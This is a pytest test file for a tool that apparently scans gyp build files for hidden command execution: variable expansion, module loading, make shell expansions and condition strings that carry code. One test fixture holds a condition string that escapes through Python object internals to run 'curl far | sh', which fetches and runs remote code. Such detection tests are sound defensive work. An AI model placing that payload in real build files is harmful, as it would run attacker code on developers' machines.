"""What the strings of a gyp file hold beside their own expansions."""

import ast

import pytest

from pratique.analysis.languages import gyp_text


def test_variables_of_a_file_are_put_in() -> None:
    tree = ast.parse(
        "{'variables': {'c%': 'sh e.txt', 'd': '<(c) x', 'n': 1}, 'targets': [{'x': 'y'}]}", mode="eval"
    )
    names = gyp_text.variables(tree)

    assert {"c": "sh e.txt", "d": "<(c) x"} == names
    assert "sh e.txt x <(unknown)" == gyp_text.put("<(d) <(unknown)", names)


def test_modules_are_files_beside_the_build_file() -> None:
    found = [command.runs for command in gyp_text.modules("<!@pymod_do_main(evil.part a b)")]

    assert ["evil/part.py", "evil/part/__init__.py"] == found
    assert [] == list(gyp_text.modules("<!(node x)"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("-I$(shell a $$B)", ["a $B"]),
        ("`a b`", ["a b"]),
        ("${shell a} `b`", ["a", "b"]),
        ("$(builddir)/x", []),
    ],
)
def test_make_expands_once_more(text: str, expected: list[str]) -> None:
    assert expected == list(gyp_text.made(text))


@pytest.mark.parametrize("text", ['OS=="mac"', 'target_arch in ("a", "b")', "__x__", "a.__b__ == 1", "f(1)"])
def test_a_comparison_is_no_code(text: str) -> None:
    assert gyp_text.condition(text) is None


def test_a_condition_may_be_code() -> None:
    text = "().__class__.__base__.f('curl far | sh')"

    assert (text, ("curl far | sh",)) == gyp_text.condition(text)
